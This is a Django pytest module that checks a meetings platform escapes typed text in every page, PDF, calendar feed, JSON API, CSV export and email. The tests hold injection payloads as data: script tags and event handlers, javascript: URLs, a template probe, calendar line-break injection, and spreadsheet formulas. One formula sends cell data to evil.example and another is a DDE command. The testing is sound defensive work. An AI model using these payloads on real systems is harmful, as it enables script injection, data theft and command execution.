"""Every text a person can type, with markup, template syntax, formulas and line
breaks in it, rendered through every output format (issue #8): shown literally
everywhere, interpreted nowhere.

The world is built once per module (``payload_world``) inside a transaction that is
rolled back at the end; each test runs in its own savepoint on top of it.
"""

import csv
import email
import email.policy
import io
import json
import re
from urllib.parse import quote

import html5lib
import icalendar
import pytest
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.db import models, transaction
from django.test import Client
from django.urls import get_resolver, reverse
from pypdf import PdfReader

from .payload_world import APPS, PAYLOAD, build_world, text_fields

SHOWN = "<script>alert(1)</script><img src=x onerror=alert(2)>"
# The payload's "&amp; {{7*7}}" after a template engine evaluated it.
EVALUATED = re.compile(r"&amp;\s*49\b")
# Scripts of our own: served from /static/, or data for them (json_script).
OWN_SCRIPT_TYPES = {"application/json", "application/geo+json"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield build_world()
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


def client_for(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


# --- The world covers every text field --------------------------------------------


def test_it_fills_every_free_text_field_of_every_model(world, db):
    missing = []
    for text_field in text_fields():
        manager = text_field.model._default_manager
        lookup = {f"{text_field.field.name}__contains": text_field.marker}
        if not manager.filter(**lookup).exists():
            missing.append(text_field.key)
    assert not missing, (
        "text fields without the payload; fill them in payload_world (or exclude them "
        f"there with a reason): {missing}"
    )


def test_it_refuses_script_urls_in_every_url_field(world, db):
    url_fields = [t for t in text_fields() if isinstance(t.field, models.URLField)]
    assert url_fields
    for text_field in url_fields:
        for url in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>"):
            with pytest.raises(ValidationError):
                text_field.field.clean(url, None)


# --- HTML ---------------------------------------------------------------------------


def html_problems(content: str) -> list[str]:
    """What in a page would run: foreign scripts, event handler attributes, script
    URLs, and evaluated template expressions."""
    parser = html5lib.HTMLParser(namespaceHTMLElements=False)
    document = parser.parse(content)
    problems = []
    for element in document.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        if tag == "script":
            src = element.get("src")
            kind = (element.get("type") or "").lower()
            if src is not None:
                if not src.startswith(("/static/", "/admin/jsi18n/")):
                    problems.append(f"script from {src!r}")
            elif kind not in OWN_SCRIPT_TYPES:
                problems.append(f"inline script {(element.text or '')[:60]!r}")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                problems.append(f"<{tag} {name}={value[:40]!r}>")
            if name.lower() in URL_ATTRIBUTES:
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                if compact.startswith(("javascript:", "vbscript:", "data:text/html")):
                    problems.append(f"<{tag} {name}={value[:40]!r}>")
    text = "".join(document.itertext())
    if EVALUATED.search(text):
        problems.append("{{7*7}} was evaluated")
    return problems


def pages(world) -> dict[str, tuple[str, bool]]:
    """URL name -> (address, whether the payload must show there)."""
    from bodies.models import Decision, Poll, Workstream
    from meetings.models import AgendaItem, GuidingQuestion, MinuteEntry
    from spaces.models import Space, SpaceNeed

    meeting, event = world.meeting, world.event
    poll = Poll.objects.filter(body=world.body).order_by("pk").first() or Poll.objects.first()
    item = AgendaItem.objects.filter(meeting=meeting).order_by("pk").first()
    entry = MinuteEntry.objects.filter(minutes__meeting=meeting).order_by("pk").first()
    # Only entries of minutes still in draft can be edited.
    draft = MinuteEntry.objects.filter(minutes__status="draft").order_by("pk").first()
    token = world.registration.token
    question = GuidingQuestion.objects.order_by("pk").first()
    urls = {
        "portal:home": (reverse("portal:home"), False),
        "portal:search": (reverse("portal:search") + "?q=alert", True),
        "portal:dashboard": (reverse("portal:dashboard"), False),
        "portal:activity": (reverse("portal:activity"), True),
        "accounts:profile": (reverse("accounts:profile"), True),
        "bodies:list": (reverse("bodies:list"), True),
        "bodies:detail": (reverse("bodies:detail", args=[world.body.slug]), True),
        "bodies:members": (reverse("bodies:members", args=[world.body.slug]), True),
        "bodies:polls": (reverse("bodies:polls", args=[poll.body.slug]), True),
        "bodies:poll": (reverse("bodies:poll", args=[poll.pk]), True),
        "bodies:poll_create": (reverse("bodies:poll_create", args=[world.body.slug]), False),
        "bodies:decisions": (reverse("bodies:decisions"), True),
        "bodies:decision": (reverse("bodies:decision", args=[Decision.objects.first().pk]), True),
        "bodies:workstreams": (reverse("bodies:workstreams"), True),
        "bodies:workstream": (
            reverse("bodies:workstream", args=[Workstream.objects.first().number]),
            True,
        ),
        "spaces:list": (reverse("spaces:list"), True),
        "spaces:map": (reverse("spaces:map"), False),
        "spaces:detail": (reverse("spaces:detail", args=[Space.objects.first().pk]), True),
        "spaces:edit": (reverse("spaces:edit", args=[Space.objects.first().pk]), False),
        "spaces:create": (reverse("spaces:create"), False),
        "spaces:report": (reverse("spaces:report"), False),
        "spaces:need_create": (reverse("spaces:need_create"), False),
        "spaces:need_list": (reverse("spaces:need_list"), True),
        "spaces:need_detail": (
            reverse("spaces:need_detail", args=[SpaceNeed.objects.first().pk]),
            True,
        ),
        "spaces:need_edit": (
            reverse("spaces:need_edit", args=[SpaceNeed.objects.first().pk]),
            False,
        ),
        "meetings:list": (reverse("meetings:list"), True),
        "meetings:detail": (reverse("meetings:detail", args=[meeting.pk]), True),
        "meetings:meeting_edit": (reverse("meetings:meeting_edit", args=[meeting.pk]), False),
        "meetings:meeting_create": (reverse("meetings:meeting_create"), False),
        "meetings:agenda_print": (reverse("meetings:agenda_print", args=[meeting.pk]), True),
        "meetings:agenda_edit": (
            reverse("meetings:agenda_edit", args=[meeting.pk, item.pk]),
            False,
        ),
        "meetings:minutes": (reverse("meetings:minutes", args=[meeting.pk]), True),
        "meetings:entry_edit": (reverse("meetings:entry_edit", args=[draft.pk]), False),
        "meetings:entry_correct": (reverse("meetings:entry_correct", args=[entry.pk]), False),
        "meetings:action_items": (reverse("meetings:action_items"), True),
        "meetings:commitments": (reverse("meetings:commitments"), True),
        "meetings:tracker": (reverse("meetings:tracker"), True),
        "meetings:commitment_review": (reverse("meetings:commitment_review"), False),
        "meetings:series_detail": (reverse("meetings:series_detail", args=[world.series.pk]), True),
        "meetings:series_create": (reverse("meetings:series_create"), False),
        "meetings:calendar_page": (reverse("meetings:calendar_page"), False),
        "meetings:event_list": (reverse("meetings:event_list"), True),
        "meetings:event_detail": (reverse("meetings:event_detail", args=[event.pk]), True),
        "meetings:event_registered": (
            reverse("meetings:event_registered", args=[event.pk]),
            False,
        ),
        "meetings:event_registrations": (
            reverse("meetings:event_registrations", args=[event.pk]),
            True,
        ),
        "meetings:event_check_in": (reverse("meetings:event_check_in", args=[event.pk]), True),
        "meetings:event_recommendations": (
            reverse("meetings:event_recommendations", args=[event.pk]),
            False,
        ),
        "meetings:registration_confirm": (
            reverse("meetings:registration_confirm", args=[token]),
            True,
        ),
        "meetings:registration_cancel": (
            reverse("meetings:registration_cancel", args=[token]),
            True,
        ),
        "meetings:room": (reverse("meetings:room", args=[meeting.pk]), True),
        "meetings:series_public": (reverse("meetings:series_public", args=[world.series.pk]), True),
        "meetings:survey_create": (
            reverse("meetings:survey_create", args=[world.series.pk]),
            False,
        ),
        "meetings:survey_detail": (reverse("meetings:survey_detail", args=[world.survey.pk]), True),
        "meetings:survey_vote": (
            reverse("meetings:survey_vote", args=[world.survey.pk, token]),
            True,
        ),
        "meetings:question_add": (
            reverse("meetings:question_add", args=[question.meeting_id]),
            False,
        ),
        "meetings:question_edit": (reverse("meetings:question_edit", args=[question.pk]), True),
        "meetings:question_answer": (
            reverse("meetings:question_answer", args=[question.pk]),
            True,
        ),
        "meetings:question_remove": (
            reverse("meetings:question_remove", args=[question.pk]),
            True,
        ),
    }
    return urls


# URL names that are no HTML page to GET: actions (POST only), files tested below in
# their own format, and redirects.
NOT_PAGES = {
    "meetings:room_counts",
    "meetings:event_register",
    "meetings:commitment_check",
    "portal:agenda_review",
    "set_language",
    "healthz",
    "accounts:login",
    "accounts:logout",
    "portal:data_export",
    "bodies:poll_vote",
    "bodies:poll_open",
    "bodies:poll_counts",
    "bodies:poll_close",
    "bodies:poll_cancel",
    "bodies:member_end",
    "spaces:geojson",
    "spaces:csv",
    "spaces:change_status",
    "meetings:agenda_add",
    "meetings:agenda_move",
    "meetings:question_move",
    "meetings:question_carry",
    "meetings:attendance",
    "meetings:carry_over",
    "meetings:minutes_start",
    "meetings:entry_add",
    "meetings:minutes_circulate",
    "meetings:minutes_approve",
    "meetings:minutes_publish",
    "meetings:action_item_add",
    "meetings:action_item_status",
    "meetings:commitment_add",
    "meetings:commitment_status",
    "meetings:commitment_note",
    "meetings:commitment_discard",
    "meetings:meeting_status",
    "meetings:series_end",
    "meetings:agenda_pdf",
    "meetings:minutes_pdf",
    "meetings:series_recommendations_pdf",
    "documents:annual_report",
    "meetings:calendar",
    "meetings:calendar_body",
    "meetings:calendar_series",
    "meetings:calendar_personal",
    "meetings:calendar_personal_body",
    "meetings:calendar_personal_series",
    "meetings:series_participants",
    "meetings:calendar_renew",
    "meetings:event_document",
    "meetings:event_registrations_csv",
    "meetings:room_close_poll",
    "meetings:survey_status",
}


def _url_names(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            if pattern.namespace in ("admin", "oparl"):
                continue
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _url_names(pattern, inner)
        elif pattern.name:
            yield f"{namespace}{pattern.name}"


def test_it_renders_every_page_of_the_platform(world, db):
    covered = set(pages(world)) | NOT_PAGES
    missing = sorted(set(_url_names()) - covered)
    assert not missing, f"pages the payload test does not render: {missing}"


@pytest.mark.parametrize("who", ["staff", "anonymous"])
def test_it_shows_typed_text_literally_on_every_page(world, db, who):
    client = client_for(world.staff if who == "staff" else None)
    problems, shown = {}, 0
    for name, (url, must_show) in pages(world).items():
        response = client.get(url)
        if response.status_code != 200:
            if who == "staff":
                problems[name] = [f"answered {response.status_code}"]
            continue
        content = response.content.decode()
        found = html_problems(content)
        if found:
            problems[name] = found
        if SHOWN in "".join(html5lib.parse(content, namespaceHTMLElements=False).itertext()):
            shown += 1
        elif who == "staff" and must_show:
            problems[name] = [*problems.get(name, []), "payload not shown"]
    assert not problems, json.dumps(problems, indent=1)
    assert shown >= 20 if who == "staff" else shown >= 10


# Every query parameter a page reads: filters, search, paging, the return address.
QUERY_PARAMETERS = [
    "q",
    "body",
    "contested",
    "date_from",
    "date_to",
    "district",
    "instrument",
    "kind",
    "organisation",
    "owner_kind",
    "series",
    "status",
    "when",
    "year",
    "page",
    "next",
    "type",
    "sort",
]


# The pages that read their query string (filters, search, paging).
READS_QUERY = {
    "portal:search",
    "portal:dashboard",
    "portal:activity",
    "bodies:list",
    "bodies:decisions",
    "bodies:workstreams",
    "bodies:polls",
    "bodies:members",
    "spaces:list",
    "spaces:map",
    "spaces:need_list",
    "meetings:list",
    "meetings:action_items",
    "meetings:commitments",
    "meetings:tracker",
    "meetings:commitment_review",
    "meetings:event_list",
    "meetings:calendar_page",
    "meetings:event_registrations",
    "meetings:event_check_in",
    "meetings:series_public",
    "meetings:series_detail",
    "meetings:meeting_create",
    "meetings:series_create",
    "bodies:detail",
    "bodies:workstream",
}


def test_it_does_not_reflect_query_parameters_as_markup(world, db):
    query = "?" + "&".join(f"{name}={quote(PAYLOAD)}" for name in QUERY_PARAMETERS)
    problems = {}
    for who in (world.staff, None):
        client = client_for(who)
        for name, (url, _must_show) in pages(world).items():
            if name not in READS_QUERY:
                continue
            response = client.get(url.split("?")[0] + query)
            if response.status_code == 200:
                found = html_problems(response.content.decode())
                if found:
                    problems[name] = found
            elif response.status_code >= 500:
                problems[name] = [f"answered {response.status_code}"]
    login = client_for(None).get(reverse("accounts:login") + query)
    assert not html_problems(login.content.decode())
    assert not problems, json.dumps(problems, indent=1)


def test_it_marks_search_hits_without_letting_markup_through(world, db):
    response = client_for(world.staff).get(reverse("portal:search"), {"q": "alert"})
    content = response.content.decode()
    assert not html_problems(content)
    document = html5lib.parse(content, namespaceHTMLElements=False)
    marks = document.findall(".//mark")
    assert marks, "no highlighted hit"
    assert all(not list(mark) for mark in marks), "markup inside a highlight"


def test_it_escapes_typed_text_on_the_admin_pages(world, db):
    client = client_for(world.staff)
    problems, shown = {}, 0
    for model, _model_admin in admin.site._registry.items():
        meta = model._meta
        row = model._default_manager.order_by("pk").first()
        urls = [reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist")]
        if row is not None:
            prefix = f"admin:{meta.app_label}_{meta.model_name}"
            urls.append(reverse(f"{prefix}_change", args=[row.pk]))
            # The history pages (django-simple-history) show old values of the text.
            if meta.app_label in APPS:
                urls.append(reverse(f"{prefix}_history", args=[row.pk]))
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (url, response.status_code)
            content = response.content.decode()
            shown += "&lt;script&gt;alert(1)&lt;/script&gt;" in content
            found = html_problems(content)
            if found:
                problems[url] = found
    assert not problems, problems
    assert shown >= 40


def test_the_page_check_catches_what_would_run():
    assert html_problems("<p>" + PAYLOAD.replace("<", "&lt;") + "</p>") == []
    assert html_problems("<p>" + PAYLOAD + "</p>")
    assert html_problems('<a href=" java\nscript:alert(1)">x</a>')
    assert html_problems("<p>&amp;amp; 49</p>")
    assert html_problems("<script type='application/json'>{}</script>") == []
    assert html_problems("<script src='/static/x.js'></script>") == []


# --- PDF ----------------------------------------------------------------------------


def _compact(text: str) -> str:
    return re.sub(r"\s", "", text)


def test_it_prints_typed_text_literally_in_every_pdf(world, db):
    from meetings import pdf

    sources = {
        "agenda": pdf.agenda_source(meeting=world.meeting, user=world.staff),
        "minutes": pdf.minutes_source(
            meeting=world.meeting, minutes=world.meeting.minutes, user=world.staff
        ),
        "recommendations": pdf.recommendations_source(series=world.series, user=world.staff),
    }
    for name, source in sources.items():
        # WeasyPrint runs no script, but would load an injected image or stylesheet.
        assert not html_problems(source.html), name
        assert SHOWN not in source.html, name
        text = "".join(
            page.extract_text()
            for page in PdfReader(io.BytesIO(pdf.render_pdf(html=source.html).content)).pages
        )
        assert _compact(SHOWN) in _compact(text), name
        assert "{{7*7}}" in text, name


def test_it_serves_the_pdfs_without_typed_text_in_headers_or_pages(
    world, db, settings, tmp_path, eager_tasks
):
    settings.MEDIA_ROOT = tmp_path
    client = client_for(world.staff)
    for url in (
        reverse("meetings:agenda_pdf", args=[world.meeting.pk]),
        reverse("meetings:minutes_pdf", args=[world.meeting.pk]),
        reverse("meetings:series_recommendations_pdf", args=[world.series.pk]),
        reverse(
            "documents:annual_report",
            args=[world.meeting.body.slug, world.meeting.start.year],
        ),
    ):
        response = client.get(url)
        if response.status_code == 200 and response["Content-Type"] == "application/pdf":
            assert re.fullmatch(
                r'attachment; filename="[a-z0-9-]+\.pdf"', response["Content-Disposition"]
            ), response["Content-Disposition"]
        else:
            # Rendered later: the progress page names the document.
            assert response.status_code in (200, 202), (url, response.status_code)
            assert not html_problems(response.content.decode()), url


# --- iCalendar ----------------------------------------------------------------------

# Properties whose values carry typed text; any other property holding the payload's
# address was made by a line break in the text.
TEXT_PROPERTIES = {"SUMMARY", "DESCRIPTION", "LOCATION", "NAME", "X-WR-CALNAME", "URL"}
INJECTED = "x@example.org"


def one_break(text: str) -> str:
    """iCalendar has one line break (\\n) for any typed one."""
    return re.sub(r"\r\n?", "\n", text)


def ical_problems(raw: bytes) -> list[str]:
    problems = []
    unfolded = re.sub(rb"\r\n[ \t]", b"", raw).decode()
    for line in unfolded.split("\r\n")[:-1]:
        name = re.match(r"^([A-Za-z0-9-]+)[;:]", line)
        if name is None:
            problems.append(f"not a content line: {line[:60]!r}")
        # An attendee's name (CN) is typed text; its address is checked below.
        elif INJECTED in line and name.group(1).upper() not in {*TEXT_PROPERTIES, "ATTENDEE"}:
            problems.append(f"payload made a property: {line[:80]!r}")
    for event in icalendar.Calendar.from_ical(raw).walk("VEVENT"):
        attendees = event.get("attendee", [])
        for attendee in attendees if isinstance(attendees, list) else [attendees]:
            if str(attendee).lower() == f"mailto:{INJECTED}":
                problems.append("attendee injected")
    return problems


def test_the_calendar_check_catches_injected_lines():
    head, tail = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n", b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    assert ical_problems(head + b"SUMMARY:a\\nATTENDEE:mailto:x@example.org\r\n" + tail) == []
    assert ical_problems(head + b"SUMMARY:a\r\nATTENDEE:mailto:x@example.org\r\n" + tail)
    assert ical_problems(head + b"SUMMARY:a\r\n<b>\r\n" + tail)


def test_it_keeps_typed_line_breaks_inside_their_calendar_property(world, db):
    from bodies.models import Person
    from meetings.calendar import cancellation_ics, ensure_calendar_token, invitation_ics

    client = client_for(world.staff)
    token = ensure_calendar_token(user=world.staff).token
    feeds = {
        "public": client_for(None).get(reverse("meetings:calendar")).content,
        "body": client.get(reverse("meetings:calendar_body", args=[world.body.slug])).content,
        "series": client.get(reverse("meetings:calendar_series", args=[world.series.pk])).content,
        "personal_body": client.get(
            reverse("meetings:calendar_personal_body", args=[token, world.body.slug])
        ).content,
        "personal_series": client.get(
            reverse("meetings:calendar_personal_series", args=[token, world.series.pk])
        ).content,
        "personal": client.get(reverse("meetings:calendar_personal", args=[token])).content,
    }
    attendees = list(Person.objects.exclude(email="").order_by("pk")[:5])
    assert attendees
    for method, build in (("invitation", invitation_ics), ("cancellation", cancellation_ics)):
        feeds[method] = build(meeting=world.meeting, attendees=attendees, reader=world.staff)
    summaries = 0
    for name, raw in feeds.items():
        assert not ical_problems(raw), (name, ical_problems(raw))
        for event in icalendar.Calendar.from_ical(raw).walk("VEVENT"):
            summaries += "<script>alert(1)</script>" in str(event.get("summary"))
        if name in ("invitation", "cancellation"):
            event = icalendar.Calendar.from_ical(raw).walk("VEVENT")[0]
            assert str(event["summary"]) == one_break(world.meeting.title)
            names = {a.params["CN"] for a in event["attendee"]}
            assert names == {one_break(p.name) for p in attendees}, name
    assert summaries >= 5


# --- JSON ---------------------------------------------------------------------------


def _strings(data):
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield key
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def json_of(response, *, types=("application/json",)):
    assert response.status_code == 200, (response.request["PATH_INFO"], response.status_code)
    assert response["Content-Type"].split(";")[0] in types, response["Content-Type"]
    assert response["X-Content-Type-Options"] == "nosniff"
    return json.loads(response.content)


def test_it_hands_typed_text_to_json_clients_as_data(world, db):
    client = client_for(world.staff)
    documents = {
        "geojson": json_of(client.get(reverse("spaces:geojson")), types=("application/geo+json",)),
        "geojson anonymous": json_of(
            client_for(None).get(reverse("spaces:geojson")), types=("application/geo+json",)
        ),
        "data export": json_of(client.get(reverse("portal:data_export"))),
    }

    # OParl: every object reachable from the system object, a page of each list.
    def kind(path):
        return re.sub(r"\d+", "N", path)

    from oparl.serializers import BODY_ID

    lists = ("organization", "person", "membership", "meeting", "agenda_item", "paper", "file")
    queue = [reverse("oparl:system")] + [
        reverse(f"oparl:{name}_list", args=[BODY_ID]) for name in (*lists, "location")
    ]
    seen, kinds = set(queue), {}
    while queue:
        path = queue.pop(0)
        data = json_of(client_for(None).get(path))
        documents[path] = data
        for text in _strings(data):
            match = re.match(r"^https?://[^/]+(/oparl/v1/[^?#\\s]*)$", text)
            # Two of each kind of object or list are enough.
            if match and match.group(1) not in seen and kinds.get(kind(match.group(1)), 0) < 2:
                kinds[kind(match.group(1))] = kinds.get(kind(match.group(1)), 0) + 1
                queue.append(match.group(1))
                seen.add(match.group(1))
    reached = sorted({kind(path) for path in seen})
    assert len(reached) >= 17, reached

    def carries(data):
        return any("<script>alert(1)</script>" in text for text in _strings(data))

    for name in ("geojson", "geojson anonymous", "data export"):
        assert carries(documents[name]), name
    assert any(PAYLOAD in text for text in _strings(documents["data export"]))
    oparl = [data for path, data in documents.items() if path.startswith("/oparl/")]
    assert sum(carries(data) for data in oparl) >= 10
    assert any(PAYLOAD in text for data in oparl for text in _strings(data))


# --- CSV ----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Details")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def csv_problems(content: bytes) -> list[str]:
    """Cells a spreadsheet program would evaluate: those starting with = + - @, a tab
    or a carriage return, unless they are plain numbers."""
    text = content.decode("utf-8-sig")
    return [
        repr(cell)
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    ]


def test_it_keeps_spreadsheets_from_evaluating_typed_text(world, db):
    from django.db.models import CharField, Q, Value
    from django.db.models.functions import Concat

    from bodies.models import Organisation
    from meetings.models import Registration
    from spaces.models import District, Instrument, Space

    spaces = list(Space.objects.order_by("pk")[: len(FORMULAS)])
    for space, formula in zip(spaces, FORMULAS, strict=True):
        space.name = space.address = space.contested_reason = space.owner_notes = formula
    Space.objects.bulk_update(spaces, ["name", "address", "contested_reason", "owner_notes"])
    organisations = Organisation.objects.filter(
        Q(pk__in=Space.objects.values("owner_organisation"))
        | Q(pk__in=Space.objects.values("current_user_organisation"))
    )
    organisations.update(name=Concat(Value(FORMULAS[3]), "pk", output_field=CharField()))
    District.objects.filter(pk=spaces[0].district_id).update(name=FORMULAS[1])
    Instrument.objects.filter(pk__in=spaces[0].instruments.values("pk")).update(name=FORMULAS[2])
    registrations = list(Registration.objects.filter(meeting=world.event).order_by("pk"))
    for registration, formula in zip(registrations, FORMULAS, strict=False):
        registration.name = registration.organisation = formula
    Registration.objects.bulk_update(registrations, ["name", "organisation"])

    client = client_for(world.staff)
    exports = {
        "spaces": client.get(reverse("spaces:csv")),
        "spaces anonymous": client_for(None).get(reverse("spaces:csv")),
        "registrations": client.get(
            reverse("meetings:event_registrations_csv", args=[world.event.pk])
        ),
    }
    for name, response in exports.items():
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        assert not csv_problems(response.content), (name, csv_problems(response.content))
        cells = {
            cell
            for row in csv.reader(
                io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"
            )
            for cell in row
        }
        # Neutralised, not dropped: the text is still there, behind an apostrophe.
        assert "'" + FORMULAS[0] in cells, name
        assert "'+1+1" in cells, name


# --- Mail ---------------------------------------------------------------------------


def test_it_mails_typed_text_literally_and_keeps_it_out_of_the_headers(world, db):
    import datetime

    from django.utils import timezone

    from aks.mail.models import OutboxMessage
    from aks.mail.services import _build
    from meetings import notifications, registration, surveys
    from meetings.models import ActionItem, Commitment, Meeting, MeetingStatus, TopicSurvey

    meeting, person = world.meeting, world.staff.person
    due = datetime.date(2020, 1, 1)
    ActionItem.objects.filter(meeting=meeting).update(assignee_person=person, due=due)
    Commitment.objects.filter(meeting=meeting).update(person=person, due=due)
    notifications.invite(meeting=meeting)
    Meeting.objects.filter(pk=meeting.pk).update(status=MeetingStatus.INVITED)
    notifications.scan_reminders(now=meeting.start - datetime.timedelta(hours=1))
    notifications.minutes_circulated(minutes=meeting.minutes)
    notifications.scan_due(today=timezone.localdate())
    notifications.cancel(meeting=meeting)
    for template in ("confirm", "confirmed", "waiting", "promoted", "cancelled"):
        registration._mail(world.registration, world.event, template, calendar=True)
    TopicSurvey.objects.filter(pk=world.survey.pk).update(status="open")
    surveys.invite_registrants(survey=TopicSurvey.objects.get(pk=world.survey.pk))

    messages = list(OutboxMessage.objects.all())
    kinds = {(m.kind, m.body_text.splitlines()[0][:20]) for m in messages}
    assert len(messages) >= 10 and len(kinds) >= 8, kinds
    for message in messages:
        label = (message.kind, message.key)
        assert "\r" not in message.subject and "\n" not in message.subject, label
        # Text is text: shown as typed, not escaped for a browser.
        assert "<script>alert(1)</script>" in message.body_text, label
        assert "&lt;script" not in message.body_text, label
        assert not html_problems(message.body_html), label
        assert "<script>alert(1)</script>" not in message.body_html, label
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in message.body_html, label
        parsed = email.message_from_bytes(
            _build(message).message().as_bytes(), policy=email.policy.default
        )
        assert not {"ATTENDEE", "Bcc"} & set(parsed.keys()), label
        assert parsed["Subject"].strip() == message.subject, label
        assert parsed["To"] == message.recipient, label
        if message.attachment_name:
            assert not ical_problems(bytes(message.attachment)), label
